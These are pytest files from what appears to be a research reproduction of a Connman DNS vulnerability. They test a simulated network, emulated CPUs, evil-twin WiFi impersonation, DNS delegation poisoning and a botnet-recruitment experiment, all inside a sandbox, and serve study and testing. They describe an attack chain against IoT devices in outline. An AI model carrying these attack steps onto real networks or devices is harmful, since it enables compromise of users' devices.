                           dhcp=DhcpServer("172.16.9", "172.16.9.1", "172.16.9.1"),
                           signal_dbm=-80)
        radio.add(twin)
        manager = make_manager()
        strong, weak = manager.scan_wifi(radio)
        manager.connect(strong)
        manager.connect(weak)
        assert strong.state is ServiceState.IDLE
        assert manager.current is weak

    def test_ethernet_connect_not_modeled(self):
        manager = make_manager()
        ethernet = manager.add_ethernet()
        with pytest.raises(ValueError):
            manager.connect(ethernet)

    def test_disconnect(self):
        radio, _ap = build_world()
        manager = make_manager()
        service = manager.scan_wifi(radio)[0]
        manager.connect(service)
        manager.disconnect()
        assert service.state is ServiceState.IDLE
        assert manager.current is None


class TestAutoconnect:
    def test_joins_known_ssid(self):
        radio, ap = build_world()
        manager = make_manager()
        manager.scan_wifi(radio)
        service = manager.autoconnect()
        assert service is not None and service.connected
        assert service.access_point is ap

    def test_ignores_unknown_ssids(self):
        radio, _ap = build_world(ssid="StrangerDanger")
        manager = make_manager(known=("Home",))
        manager.scan_wifi(radio)
        assert manager.autoconnect() is None

    def test_idempotent_when_already_best(self):
        radio, _ap = build_world()
        manager = make_manager()
        manager.scan_wifi(radio)
        assert manager.autoconnect() is not None
        assert manager.autoconnect() is None

    def test_roams_to_stronger_twin(self):
        radio, _ap = build_world()
        manager = make_manager()
        manager.scan_wifi(radio)
        manager.autoconnect()
        twin_net = Network("twin", subnet_prefix="172.16.9")
        twin = AccessPoint(ssid="Home", network=twin_net,
                           dhcp=DhcpServer("172.16.9", "172.16.9.1", "172.16.9.1"),
                           signal_dbm=-25)
        radio.add(twin)
        manager.scan_wifi(radio)
        service = manager.autoconnect()
        assert service is not None
        assert service.access_point is twin
        assert service.nameservers == ["172.16.9.1"]

    def test_describe_marks_current(self):
        radio, _ap = build_world()
        manager = make_manager()
        manager.scan_wifi(radio)
        manager.autoconnect()
        assert "*" in manager.describe()


class TestOnlineCheckAttackSurface:
    def test_online_check_through_rogue_dns_is_the_first_shot(self):
        """Connman's own online check after joining the evil twin walks
        straight into the vulnerable parser."""
        from repro.core import AttackScenario, attacker_knowledge
        from repro.exploit import builder_for, malicious_server_for
        from repro.net import WifiPineapple
        from repro.dns import make_query

        radio, _ap = build_world()
        daemon = ConnmanDaemon(arch="arm", profile=WX_ASLR)
        station = WirelessStation(Host("victim"), known_ssids=["Home"])

        def online_check() -> bool:
            query = make_query(0x0C, "connectivity-check.example")
            response = daemon.handle_client_query(
                query.encode(), station.host.dns_transport()
            )
            return response is not None

        manager = ServiceManager(station, online_check=online_check)
        knowledge = attacker_knowledge(AttackScenario("arm", "full", WX_ASLR))
        exploit = builder_for("arm", WX_ASLR).build(knowledge)
        pineapple = WifiPineapple(malicious_server_for(exploit))
        pineapple.impersonate("Home", radio, signal_dbm=-20)

        manager.scan_wifi(radio)
        service = manager.autoconnect()
        # The join succeeded at the network layer...
        assert service.ipv4_address is not None
        # ...but the online check already handed the daemon the payload.
        assert daemon.compromised
        assert daemon.last_event.kind is EventKind.COMPROMISED
