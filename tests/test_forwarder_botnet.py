"""Caching forwarder, delegation poisoning, and the botnet campaign."""

import random

import pytest

from repro.core import e13_botnet
from repro.dns import (
    CachingForwarder,
    DelegationPoisoner,
    Message,
    SimpleDnsServer,
    StubResolver,
    make_query,
)


def make_forwarder():
    legit = SimpleDnsServer(zone={"a.example": "1.1.1.1"}, default_address="9.9.9.9")
    return CachingForwarder(default_upstream=legit.handle_query), legit


class TestForwarder:
    def test_forwards_to_default_upstream(self):
        forwarder, _legit = make_forwarder()
        result = StubResolver().resolve(forwarder.handle_query, "a.example")
        assert result.address == "1.1.1.1"
        assert forwarder.forwarded == 1

    def test_caches_response_bytes(self):
        forwarder, legit = make_forwarder()
        resolver = StubResolver()
        resolver.resolve(forwarder.handle_query, "a.example")
        resolver.resolve(forwarder.handle_query, "a.example")
        assert forwarder.forwarded == 1
        assert forwarder.served == 1
        assert len(legit.log) == 1

    def test_cached_reply_gets_clients_transaction_id(self):
        forwarder, _legit = make_forwarder()
        forwarder.handle_query(make_query(0x1111, "a.example").encode())
        second = forwarder.handle_query(make_query(0x2222, "a.example").encode())
        assert Message.decode(second).id == 0x2222

    def test_delegation_routes_by_longest_suffix(self):
        forwarder, _legit = make_forwarder()
        vendor = SimpleDnsServer(default_address="7.7.7.7")
        sub = SimpleDnsServer(default_address="8.8.8.8")
        forwarder.delegate("vendor.example", vendor.handle_query)
        forwarder.delegate("cdn.vendor.example", sub.handle_query)
        assert StubResolver().resolve(
            forwarder.handle_query, "x.cdn.vendor.example").address == "8.8.8.8"
        assert StubResolver().resolve(
            forwarder.handle_query, "y.vendor.example").address == "7.7.7.7"

    def test_suffix_does_not_match_partial_labels(self):
        forwarder, _legit = make_forwarder()
        vendor = SimpleDnsServer(default_address="7.7.7.7")
        forwarder.delegate("vendor.example", vendor.handle_query)
        result = StubResolver().resolve(forwarder.handle_query, "evilvendor.example")
        assert result.address == "9.9.9.9"  # default, not the delegation

    def test_flush_clears_cache(self):
        forwarder, _legit = make_forwarder()
        resolver = StubResolver()
        resolver.resolve(forwarder.handle_query, "a.example")
        forwarder.flush()
        resolver.resolve(forwarder.handle_query, "a.example")
        assert forwarder.forwarded == 2

    def test_garbage_ignored(self):
        forwarder, _legit = make_forwarder()
        assert forwarder.handle_query(b"\x01") is None


class TestDelegationPoisoner:
    def test_large_bursts_poison(self):
        forwarder, _legit = make_forwarder()
        attacker = SimpleDnsServer(default_address="6.6.6.6")
        poisoner = DelegationPoisoner(forwarder, "vendor.example",
                                      attacker.handle_query, burst=2048,
                                      rng=random.Random(1))
        result = poisoner.run()
        assert result.succeeded
        assert "vendor.example" in forwarder.delegations
        # Traffic for the zone now goes to the attacker.
        answer = StubResolver().resolve(forwarder.handle_query, "u.vendor.example")
        assert answer.address == "6.6.6.6"

    def test_small_bursts_usually_fail(self):
        forwarder, _legit = make_forwarder()
        attacker = SimpleDnsServer(default_address="6.6.6.6")
        poisoner = DelegationPoisoner(forwarder, "vendor.example",
                                      attacker.handle_query, burst=1,
                                      rng=random.Random(2))
        result = poisoner.run(max_attempts=16)
        assert not result.succeeded
        assert "vendor.example" not in forwarder.delegations

    def test_attempt_accounting(self):
        forwarder, _legit = make_forwarder()
        poisoner = DelegationPoisoner(forwarder, "z.example", lambda q: None,
                                      burst=8, rng=random.Random(3))
        result = poisoner.run(max_attempts=5)
        assert result.spoofs_sent == 8 * result.attempts


class TestE13:
    @pytest.fixture(scope="class")
    def result(self):
        return e13_botnet()

    def test_all_rows_ok(self, result):
        assert result.all_pass
        assert len(result.rows) == 7

    def test_five_arm_devices_recruited(self, result):
        recruited = [row for row in result.rows if row[5]]
        assert len(recruited) == 5
        assert all(row[2] == "arm" for row in recruited)

    def test_patched_device_untouched(self, result):
        patched = next(row for row in result.rows if row[1] == "tizen-4")
        assert not patched[5]
        assert "dropped" in patched[4]

    def test_x86_collateral_is_dos_not_recruitment(self, result):
        collateral = next(row for row in result.rows if row[2] == "x86")
        assert not collateral[5]
        assert "crashed" in collateral[4]

    def test_notes_report_poisoning_and_size(self, result):
        assert "poisoned" in result.notes
        assert "botnet size 5" in result.notes
