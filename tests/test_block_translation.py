"""Superblock translation: dispatch, invalidation, and outcome parity.

The block cache's contract is the decode cache's one level up: it is a pure
optimization, so every observable — outcomes, step counts, budget behaviour,
register and flag state at faults, W^X verdicts — must be bit-identical with
blocks on or off, at any worker count.  This file pins that contract.
"""

import json

import pytest

from repro.cpu import MAX_BLOCK_LEN, BlockCache, Process, TraceRecorder, make_emulator
from repro.cpu.native import NativeFunction
from repro.cpu.x86 import asm as x86
from repro.cpu.x86.emu import X86Emulator
from repro.mem import AddressSpace, Perm, Segment, WxViolation


def x86_process(segments, code_at=None):
    space = AddressSpace()
    for segment in segments:
        space.map(segment)
    if code_at:
        for address, code in code_at.items():
            space.write(address, code, check=False)
    return Process("x86", space, name="block-test")


def arm_process(segments, code_at=None):
    space = AddressSpace()
    for segment in segments:
        space.map(segment)
    if code_at:
        for address, code in code_at.items():
            space.write(address, code, check=False)
    return Process("arm", space, name="block-test")


TIGHT_LOOP = b"\x40" * 8 + b"\xeb\xf6"  # 8x inc eax; jmp -10


def run_both(make_process, max_steps):
    """Run the same program blocks-on and blocks-off; return both states."""
    states = []
    for enabled in (True, False):
        process = make_process()
        process.block_cache.enabled = enabled
        result = make_emulator(process).run(max_steps=max_steps)
        states.append({
            "reason": result.reason,
            "steps": result.steps,
            "detail": result.detail,
            "signal": result.signal,
            "registers": dict(process.registers.values),
        })
    return states


class TestBlockDispatch:
    def test_steady_state_executes_through_blocks(self):
        process = x86_process(
            [Segment(".text", 0x1000, 0x100, Perm.RX)],
            code_at={0x1000: TIGHT_LOOP},
        )
        process.pc = 0x1000
        result = make_emulator(process).run(max_steps=900)
        blocks = process.block_cache
        assert result.reason == "fault" and result.signal == "SIGKILL"
        assert result.steps == 900
        # 9-insn loop: one build at the entry, then hits; all but the
        # budget tail (< one block) dispatches through compiled blocks.
        assert blocks.builds >= 1
        assert blocks.hits >= 90
        assert blocks.steps >= 900 - 9
        # The loop decodes each distinct instruction exactly once.
        assert process.decode_cache.misses == 9

    def test_disabled_block_cache_never_builds(self):
        process = x86_process(
            [Segment(".text", 0x1000, 0x100, Perm.RX)],
            code_at={0x1000: TIGHT_LOOP},
        )
        process.block_cache.enabled = False
        process.pc = 0x1000
        make_emulator(process).run(max_steps=100)
        assert process.block_cache.builds == 0
        assert process.block_cache.steps == 0

    def test_budget_exceeded_at_exactly_max_steps(self):
        # 30 is not a multiple of the 9-insn loop: the final partial block
        # must single-step so the budget fires at exactly max_steps, with
        # the same pc and registers the per-step path reaches.
        def build():
            process = x86_process(
                [Segment(".text", 0x1000, 0x100, Perm.RX)],
                code_at={0x1000: TIGHT_LOOP},
            )
            process.pc = 0x1000
            return process

        with_blocks, without_blocks = run_both(build, max_steps=30)
        assert with_blocks == without_blocks
        assert with_blocks["steps"] == 30
        assert with_blocks["signal"] == "SIGKILL"

    @pytest.mark.parametrize("max_steps", [1, 8, 9, 10, 17, 27, 100])
    def test_budget_parity_across_block_boundaries(self, max_steps):
        def build():
            process = x86_process(
                [Segment(".text", 0x1000, 0x100, Perm.RX)],
                code_at={0x1000: TIGHT_LOOP},
            )
            process.pc = 0x1000
            return process

        with_blocks, without_blocks = run_both(build, max_steps=max_steps)
        assert with_blocks == without_blocks

    def test_blocks_split_at_max_block_len(self):
        # 100 straight-line instructions: no single block may exceed the cap.
        code = b"\x40" * 100 + bytes(x86.jmp_rel8(0x1064, 0x1000))
        process = x86_process(
            [Segment(".text", 0x1000, 0x1000, Perm.RX)],
            code_at={0x1000: code},
        )
        process.pc = 0x1000
        make_emulator(process).run(max_steps=300)
        blocks = process.block_cache
        assert blocks.builds >= 2
        assert blocks.built_lengths  # no observer attached, so not drained
        assert max(blocks.built_lengths) <= MAX_BLOCK_LEN

    def test_trace_recorder_forces_per_step_dispatch(self):
        process = x86_process(
            [Segment(".text", 0x1000, 0x100, Perm.RX)],
            code_at={0x1000: TIGHT_LOOP},
        )
        process.pc = 0x1000
        process.trace = TraceRecorder()
        make_emulator(process).run(max_steps=40)
        assert process.block_cache.builds == 0
        assert process.block_cache.steps == 0
        assert len(process.trace.entries) == 40

    def test_step_timer_forces_per_step_and_times_natives(self):
        """The step timer observes every dispatch, native calls included."""

        class Recorder:
            def __init__(self):
                self.count = 0

            def observe(self, value):
                self.count += 1

        calls = []

        def handler(context):
            calls.append(context.process.pc)
            return 0

        process = x86_process(
            [
                Segment(".text", 0x1000, 0x100, Perm.RX),
                Segment("stack", 0x20000, 0x1000, Perm.RW),
            ],
            code_at={
                0x1000: x86.push_imm32(0x100A)      # return address: the nops
                + x86.jmp_rel32(0x1005, 0x5000)     # "call" the native
                + x86.nop() * 3
                + x86.hlt(),
            },
        )
        process.register_native(0x5000, NativeFunction("stub", handler))
        process.registers["esp"] = 0x20800
        process.pc = 0x1000
        emulator = make_emulator(process)
        timer = Recorder()
        emulator.step_timer = timer
        result = emulator.run(max_steps=50)
        assert calls  # the native actually ran
        assert result.reason == "fault"
        # Every step was timed: push, jmp, native invoke, 3 nops all appear
        # before the hlt fault ends the run.
        assert timer.count == result.steps == 6
        assert process.block_cache.steps == 0  # timer forces per-step path


class TestBlockInvalidation:
    def test_self_modifying_store_bails_mid_block(self):
        """A store that rewrites a *later* instruction in its own block must
        bail out so the new bytes execute — same registers as per-step."""
        # mov eax, 0x41        (inc ecx opcode in the low byte)
        # mov [ebx], eax       (overwrites the inc edx below with inc ecx)
        # inc edx              <- rewritten before it executes
        # hlt
        def build():
            target = 0x1000 + 5 + 2  # address of the inc edx
            code = (
                x86.mov_reg_imm32("eax", 0x41)
                + x86.mov_mem_reg("ebx", "eax")
                + x86.inc_reg("edx")
                + x86.hlt()
            )
            process = x86_process(
                [Segment("rwx", 0x1000, 0x1000, Perm.RWX)],
                code_at={0x1000: code},
            )
            process.registers["ebx"] = target
            process.pc = 0x1000
            return process

        with_blocks, without_blocks = run_both(build, max_steps=20)
        assert with_blocks == without_blocks
        # The rewritten byte executed: ecx incremented, edx untouched.
        assert with_blocks["registers"]["ecx"] == 1
        assert with_blocks["registers"]["edx"] == 0

    def test_stale_block_dropped_on_reentry_after_external_write(self):
        process = x86_process(
            [Segment("rwx", 0x1000, 0x1000, Perm.RWX)],
            code_at={0x1000: b"\x40\x40" + x86.hlt()},
        )
        process.pc = 0x1000
        emulator = make_emulator(process)
        emulator.run(max_steps=20)
        assert process.registers["eax"] == 2
        process.memory.write(0x1000, b"\x41\x41")  # now inc ecx twice
        process.pc = 0x1000
        emulator.run(max_steps=20)
        assert process.registers["ecx"] == 2
        assert process.registers["eax"] == 2
        assert process.block_cache.invalidations >= 1
        assert process.block_cache.epoch_flushes == 0

    def test_remap_at_same_base_flushes_whole_cache(self):
        process = x86_process(
            [Segment("old", 0x1000, 0x1000, Perm.RX)],
            code_at={0x1000: b"\x40" + x86.hlt()},
        )
        process.pc = 0x1000
        emulator = make_emulator(process)
        emulator.run(max_steps=20)
        assert process.registers["eax"] == 1
        space = process.memory
        space.unmap("old")
        space.map(Segment("new", 0x1000, 0x1000, Perm.RX))
        space.write(0x1000, b"\x41" + x86.hlt(), check=False)
        process.pc = 0x1000
        emulator.run(max_steps=20)
        assert process.registers["ecx"] == 1
        assert process.block_cache.epoch_flushes >= 1

    def test_native_registered_after_build_is_not_skipped(self):
        """A native handler installed mid-run at an address inside a compiled
        block's straight line must flush the cache and be dispatched."""
        code = x86.nop() * 4 + x86.hlt()
        process = x86_process(
            [Segment(".text", 0x1000, 0x100, Perm.RX)],
            code_at={0x1000: code},
        )
        process.pc = 0x1000
        emulator = make_emulator(process)
        emulator.run(max_steps=20)
        assert process.block_cache.builds >= 1

        calls = []

        def handler(context):
            calls.append(context.process.pc)
            context.process.pc = 0x1004  # jump straight to the hlt

        # 0x1002 sits inside the already-compiled 5-insn block.
        process.register_native(0x1002, NativeFunction("probe", handler))
        process.pc = 0x1000
        emulator.run(max_steps=20)
        assert calls == [0x1002]
        # A native registration is its own flush cause, distinct from a
        # mapping-epoch move.
        assert process.block_cache.native_flushes >= 1
        assert process.block_cache.epoch_flushes == 0

    def test_cross_page_block_invalidated_by_second_page_write(self):
        """An instruction straddling the entry page's boundary stamps the
        block with *both* pages; writing only the second page must drop it."""
        # 5-byte mov eax, imm32 at 0x1FFE: bytes span pages 1 and 2.
        def code_for(value):
            return x86.mov_reg_imm32("eax", value) + x86.hlt()

        process = x86_process(
            [Segment("rwx", 0x1000, 0x2000, Perm.RWX)],
            code_at={0x1FFE: code_for(0x11223344)},
        )
        process.pc = 0x1FFE
        emulator = make_emulator(process)
        emulator.run(max_steps=10)
        assert process.registers["eax"] == 0x11223344
        assert process.block_cache.builds >= 1
        # Rewrite one immediate byte that lives on the *second* page
        # (0x2001 holds the 0x22 of the little-endian immediate).
        process.memory.write(0x2001, b"\x55")
        process.pc = 0x1FFE
        emulator.run(max_steps=10)
        assert process.registers["eax"] == 0x11553344
        assert process.block_cache.invalidations >= 1

    def test_block_ends_at_page_boundary(self):
        # Straight-line nops across a page boundary: the block entered on
        # page 1 must not extend onto page 2 (its invalidation span stays
        # the entry page plus at most one straddled neighbour).
        process = x86_process(
            [Segment(".text", 0x1000, 0x2000, Perm.RX)],
            code_at={0x1FFC: x86.nop() * 8 + x86.hlt()},
        )
        process.pc = 0x1FFC
        make_emulator(process).run(max_steps=20)
        blocks = process.block_cache
        assert blocks.builds >= 2  # one block per page side
        assert blocks.built_lengths[0] == 4

    def test_wx_still_enforced_with_blocks_on(self):
        process = x86_process([Segment("data", 0x1000, 0x100, Perm.RW)])
        process.memory.write(0x1000, b"\x40")
        process.pc = 0x1000
        with pytest.raises(WxViolation):
            X86Emulator(process).step()
        result = make_emulator(process).run(max_steps=10)
        assert result.reason == "fault"
        assert result.signal == "SIGSEGV"
        assert process.block_cache.builds == 0
        assert len(process.block_cache) == 0


class TestFlagFidelity:
    def test_jz_sees_flags_from_last_writer(self):
        # xor eax, eax sets ZF; the dead earlier write (xor ebx, ebx after
        # it is elided or not) must not change what jz observes.
        def build():
            jz_at = 0x1000 + 2 + 2
            code = (
                x86.xor_reg_reg("ebx", "ebx")   # flag write, dead
                + x86.xor_reg_reg("eax", "eax")  # flag write, live (jz reads)
                + x86.jz_rel8(jz_at, 0x1020)
                + x86.hlt()
            )
            process = x86_process(
                [Segment(".text", 0x1000, 0x100, Perm.RX)],
                code_at={0x1000: code, 0x1020: x86.inc_reg("ecx") + x86.hlt()},
            )
            process.pc = 0x1000
            return process

        with_blocks, without_blocks = run_both(build, max_steps=20)
        assert with_blocks == without_blocks
        assert with_blocks["registers"]["ecx"] == 1  # branch was taken

    def test_flags_at_fault_match_per_step_state(self):
        """A fault mid-block must expose the architectural eflags: the flag
        write *before* a faultable store is never elided."""
        def build():
            code = (
                x86.xor_reg_reg("eax", "eax")    # ZF=1 — dead (inc follows)
                + x86.inc_reg("eax")             # ZF=0 — live across the store
                + x86.mov_mem_reg("ebx", "eax")  # faults: ebx unmapped
                + x86.hlt()
            )
            process = x86_process(
                [Segment(".text", 0x1000, 0x100, Perm.RX)],
                code_at={0x1000: code},
            )
            process.registers["ebx"] = 0xDEAD0000
            process.pc = 0x1000
            return process

        with_blocks, without_blocks = run_both(build, max_steps=20)
        assert with_blocks == without_blocks
        assert with_blocks["reason"] == "fault"
        assert with_blocks["signal"] == "SIGSEGV"
        assert with_blocks["steps"] == 2
        # pc is architectural at the fault: the store's own address.
        assert with_blocks["registers"]["eip"] == 0x1003

    def test_dead_flag_elision_does_not_leak_across_blocks(self):
        # A block ending in plain fall-through (page split) keeps its final
        # flag write live for whatever executes next.
        def build():
            code = (
                x86.xor_reg_reg("eax", "eax")    # ZF=1, last writer in block 1
                + x86.nop() * 4                  # pads exactly to the page edge
            )
            jz_at = 0x2000
            process = x86_process(
                [Segment(".text", 0x1000, 0x2000, Perm.RX)],
                code_at={
                    0x1FFA: code,                      # ends at the page edge
                    0x2000: x86.jz_rel8(jz_at, 0x2010) + x86.hlt(),
                    0x2010: x86.inc_reg("edx") + x86.hlt(),
                },
            )
            process.pc = 0x1FFA
            return process

        with_blocks, without_blocks = run_both(build, max_steps=20)
        assert with_blocks == without_blocks
        assert with_blocks["registers"]["edx"] == 1


class TestArmBlocks:
    def test_tight_loop_parity_and_block_dispatch(self):
        from repro.cpu.arm import asm as arm

        def build():
            code = (
                arm.add_imm("r0", "r0", 1)
                + arm.add_imm("r1", "r1", 2)
                + arm.eor_reg("r2", "r2", "r0")
                + arm.b(0x1000C, 0x10000)
            )
            process = arm_process(
                [Segment(".text", 0x10000, 0x1000, Perm.RX)],
                code_at={0x10000: code},
            )
            process.pc = 0x10000
            return process

        with_blocks, without_blocks = run_both(build, max_steps=101)
        assert with_blocks == without_blocks
        process = build()
        result = make_emulator(process).run(max_steps=101)
        assert result.steps == 101
        assert process.block_cache.steps >= 101 - 4

    def test_arm_store_self_modify_bails(self):
        from repro.cpu.arm import asm as arm

        def build():
            # r0 holds the encoding of "add r2, r2, 1"; str r0, [r1]
            # overwrites the "add r3, r3, 1" two slots later in the block.
            patch = int.from_bytes(arm.add_imm("r2", "r2", 1), "little")
            code = (
                arm.str_("r0", "r1")             # rewrite the later insn
                + arm.add_imm("r4", "r4", 1)
                + arm.add_imm("r3", "r3", 1)     # <- replaced before execute
                + arm.svc()
            )
            process = arm_process(
                [Segment("rwx", 0x10000, 0x1000, Perm.RWX)],
                code_at={0x10000: code},
            )
            process.registers["r0"] = patch
            process.registers["r1"] = 0x10008
            process.pc = 0x10000
            return process

        with_blocks, without_blocks = run_both(build, max_steps=10)
        assert with_blocks == without_blocks
        assert with_blocks["registers"]["r2"] == 1
        assert with_blocks["registers"]["r3"] == 0
        assert with_blocks["registers"]["r4"] == 1

    def test_arm_fault_state_parity(self):
        from repro.cpu.arm import asm as arm

        def build():
            code = (
                arm.mov_imm("r0", 0x44)
                + arm.cmp_imm("r0", 0x44)        # flags live across the load
                + arm.ldr("r5", "r6")            # faults: r6 unmapped
            )
            process = arm_process(
                [Segment(".text", 0x10000, 0x1000, Perm.RX)],
                code_at={0x10000: code},
            )
            process.registers["r6"] = 0xDEAD0000
            process.pc = 0x10000
            return process

        with_blocks, without_blocks = run_both(build, max_steps=10)
        assert with_blocks == without_blocks
        assert with_blocks["reason"] == "fault"
        assert with_blocks["registers"]["r15"] == 0x10008


class TestOutcomeParity:
    """Blocks are a pure optimization: no experiment outcome may change."""

    def _scenario_outcomes(self):
        from repro.core import PAPER_MATRIX, run_scenario

        return [run_scenario(scenario).row() for scenario in PAPER_MATRIX[:3]]

    def test_scenarios_identical_blocks_on_and_off(self, monkeypatch):
        monkeypatch.setattr(BlockCache, "enabled_by_default", True)
        with_blocks = self._scenario_outcomes()
        monkeypatch.setattr(BlockCache, "enabled_by_default", False)
        without_blocks = self._scenario_outcomes()
        assert with_blocks == without_blocks

    def test_bruteforce_identical_blocks_on_and_off(self, monkeypatch):
        from repro.exploit import BruteForceTrial, run_bruteforce_trial

        trial = BruteForceTrial(victim_seed=7, attacker_seed=8,
                                max_attempts=256, entropy_pages=16)
        monkeypatch.setattr(BlockCache, "enabled_by_default", True)
        with_blocks = run_bruteforce_trial(trial)
        monkeypatch.setattr(BlockCache, "enabled_by_default", False)
        without_blocks = run_bruteforce_trial(trial)
        assert with_blocks == without_blocks
        assert with_blocks.succeeded

    def test_chaos_sweep_byte_identical_on_off_and_parallel(self, monkeypatch):
        from repro.core import run_chaos_sweep

        kwargs = dict(queries_per_rate=6, attack_budget=6)
        monkeypatch.setattr(BlockCache, "enabled_by_default", True)
        with_blocks = run_chaos_sweep((0.0, 0.4), workers=1, **kwargs)
        parallel = run_chaos_sweep((0.0, 0.4), workers=2, **kwargs)
        monkeypatch.setattr(BlockCache, "enabled_by_default", False)
        without_blocks = run_chaos_sweep((0.0, 0.4), workers=1, **kwargs)
        on = json.dumps(with_blocks.to_dict(), sort_keys=True)
        off = json.dumps(without_blocks.to_dict(), sort_keys=True)
        par = json.dumps(parallel.to_dict(), sort_keys=True)
        assert on == off == par
