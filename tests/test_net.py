"""Network fabric: hosts, LANs, DHCP, wireless roaming, Pineapple."""

import pytest

from repro.dns import SimpleDnsServer, StubResolver, fixed_blob_server
from repro.net import (
    AccessPoint,
    DhcpServer,
    DNS_PORT,
    Host,
    Network,
    RadioEnvironment,
    WifiPineapple,
    WirelessStation,
    run_handshake,
)


def lan_with_dns(zone=None):
    network = Network("lan", subnet_prefix="10.0.0")
    server_host = Host("dns")
    network.attach(server_host, ip="10.0.0.1")
    dns = SimpleDnsServer(zone=zone or {"a.example": "1.2.3.4"})
    server_host.bind_udp(DNS_PORT, lambda payload, _dgram: dns.handle_query(payload))
    return network, server_host, dns


class TestHostNetwork:
    def test_attach_allocates_ip(self):
        network = Network("lan", subnet_prefix="10.9.9")
        host = Host("box")
        ip = network.attach(host)
        assert ip.startswith("10.9.9.")
        assert network.host_by_ip(ip) is host

    def test_static_attach_conflict_rejected(self):
        network, _server, _dns = lan_with_dns()
        with pytest.raises(ValueError):
            network.attach(Host("dup"), ip="10.0.0.1")

    def test_detach_clears_addressing(self):
        network = Network("lan")
        host = Host("box")
        network.attach(host)
        network.detach(host)
        assert host.ip is None and host.network is None

    def test_reattach_moves_networks(self):
        a, b = Network("a", subnet_prefix="10.1.1"), Network("b", subnet_prefix="10.2.2")
        host = Host("roamer")
        a.attach(host)
        b.attach(host)
        assert host.network is b
        assert not a.hosts()

    def test_udp_roundtrip(self):
        network, _server, _dns = lan_with_dns()
        client = Host("client")
        network.attach(client)
        result = StubResolver().resolve(
            lambda query: client.send_udp("10.0.0.1", DNS_PORT, query), "a.example"
        )
        assert result.address == "1.2.3.4"

    def test_send_to_unknown_ip_drops(self):
        network = Network("lan")
        client = Host("client")
        network.attach(client)
        assert client.send_udp("10.99.99.99", 53, b"hi") is None

    def test_send_to_unbound_port_drops(self):
        network, server_host, _dns = lan_with_dns()
        client = Host("client")
        network.attach(client)
        assert client.send_udp(server_host.ip, 9999, b"hi") is None

    def test_detached_host_cannot_send(self):
        assert Host("loner").send_udp("10.0.0.1", 53, b"x") is None

    def test_traffic_log(self):
        network, server_host, _dns = lan_with_dns()
        client = Host("client")
        network.attach(client)
        client.send_udp(server_host.ip, DNS_PORT, b"ping")
        assert network.traffic[-1].dst_port == DNS_PORT

    def test_double_bind_rejected(self):
        host = Host("h")
        host.bind_udp(53, lambda p, d: None)
        with pytest.raises(ValueError):
            host.bind_udp(53, lambda p, d: None)

    def test_dns_transport_uses_resolv_conf(self):
        network, server_host, _dns = lan_with_dns()
        client = Host("client")
        network.attach(client)
        client.configure(ip=client.ip, dns_server=server_host.ip)
        result = StubResolver().resolve(client.dns_transport(), "a.example")
        assert result.ok

    def test_dns_transport_without_resolver_fails(self):
        client = Host("client")
        assert client.dns_transport()(b"query") is None


class TestDhcp:
    def make_server(self):
        return DhcpServer("10.0.0", router="10.0.0.1", dns_server="10.0.0.1",
                          pool_start=50, pool_size=3)

    def test_handshake_grants_lease(self):
        server = self.make_server()
        ack = run_handshake(server, "02:00:00:00:00:01")
        assert ack is not None
        assert ack.offer.ip == "10.0.0.50"
        assert ack.offer.dns_server == "10.0.0.1"

    def test_same_mac_keeps_lease(self):
        server = self.make_server()
        first = run_handshake(server, "mac-a")
        second = run_handshake(server, "mac-a")
        assert first.offer.ip == second.offer.ip
        assert server.lease_count == 1

    def test_distinct_macs_distinct_ips(self):
        server = self.make_server()
        ips = {run_handshake(server, f"mac-{i}").offer.ip for i in range(3)}
        assert len(ips) == 3

    def test_pool_exhaustion(self):
        server = self.make_server()
        for index in range(3):
            run_handshake(server, f"mac-{index}")
        assert server.handle_discover("mac-overflow") is None

    def test_request_for_foreign_offer_rejected(self):
        server = self.make_server()
        offer = server.handle_discover("mac-a")
        from repro.net import DhcpOffer

        forged = DhcpOffer(ip="10.0.0.99", router=offer.router, dns_server=offer.dns_server)
        assert server.handle_request("mac-a", forged) is None


class TestWireless:
    def build_radio(self):
        network, _server, _dns = lan_with_dns()
        dhcp = DhcpServer("10.0.0", router="10.0.0.1", dns_server="10.0.0.1")
        radio = RadioEnvironment()
        ap = AccessPoint(ssid="Home", network=network, dhcp=dhcp, signal_dbm=-60)
        radio.add(ap)
        return radio, ap

    def test_scan_sorted_by_signal(self):
        radio, ap = self.build_radio()
        stronger = AccessPoint(ssid="Other", network=Network("x"), dhcp=ap.dhcp,
                               signal_dbm=-30)
        radio.add(stronger)
        assert radio.scan()[0] is stronger

    def test_station_joins_known_ssid_only(self):
        radio, ap = self.build_radio()
        station = WirelessStation(Host("dev"), known_ssids=["Nope"])
        assert station.auto_join(radio) is None

    def test_association_configures_via_dhcp(self):
        radio, ap = self.build_radio()
        station = WirelessStation(Host("dev"), known_ssids=["Home"])
        record = station.auto_join(radio)
        assert record.ap is ap
        assert station.host.ip == record.ip
        assert station.host.dns_server == "10.0.0.1"

    def test_auto_join_idempotent(self):
        radio, _ap = self.build_radio()
        station = WirelessStation(Host("dev"), known_ssids=["Home"])
        assert station.auto_join(radio) is not None
        assert station.auto_join(radio) is None  # already on the best AP

    def test_station_roams_to_stronger_evil_twin(self):
        radio, ap = self.build_radio()
        station = WirelessStation(Host("dev"), known_ssids=["Home"])
        station.auto_join(radio)
        twin_net = Network("twin", subnet_prefix="172.16.42")
        twin_dhcp = DhcpServer("172.16.42", router="172.16.42.1", dns_server="172.16.42.1")
        twin = AccessPoint(ssid="Home", network=twin_net, dhcp=twin_dhcp, signal_dbm=-20)
        radio.add(twin)
        moved = station.auto_join(radio)
        assert moved is not None and moved.ap is twin
        assert station.host.network is twin_net
        assert len(station.history) == 2

    def test_weaker_twin_does_not_win(self):
        radio, ap = self.build_radio()
        station = WirelessStation(Host("dev"), known_ssids=["Home"])
        station.auto_join(radio)
        weak = AccessPoint(ssid="Home", network=Network("weak"), dhcp=ap.dhcp,
                           signal_dbm=-80)
        radio.add(weak)
        assert station.auto_join(radio) is None


class TestPineapple:
    def test_serves_malicious_dns_on_itself(self):
        pineapple = WifiPineapple(fixed_blob_server(b"\x01a\x00"))
        assert pineapple.dhcp.dns_server == pineapple.host.ip
        assert pineapple.host.service_on(DNS_PORT) is not None

    def test_impersonation_broadcasts_strong_twin(self):
        radio = RadioEnvironment()
        pineapple = WifiPineapple(fixed_blob_server(b"\x01a\x00"))
        ap = pineapple.impersonate("Target", radio, signal_dbm=-20)
        assert radio.scan()[0] is ap
        assert ap.ssid == "Target"

    def test_stop_broadcast_cleans_radio(self):
        radio = RadioEnvironment()
        pineapple = WifiPineapple(fixed_blob_server(b"\x01a\x00"))
        pineapple.impersonate("Target", radio)
        pineapple.stop_broadcast(radio)
        assert not radio.scan()
